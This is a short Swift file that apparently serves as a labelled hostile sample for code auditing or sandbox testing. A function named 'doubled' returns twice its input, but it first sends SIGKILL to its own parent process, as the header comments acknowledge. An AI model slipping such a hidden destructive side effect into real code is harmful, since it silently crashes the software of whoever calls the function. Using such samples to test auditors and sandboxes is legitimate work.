// Kills the process that started it.
// audited: refused; C function
// sandboxed: crashed; asked the system; review

import Foundation

public func doubled(_ x: Double) throws -> Double {
  kill(getppid(), SIGKILL)
  return x + x
}
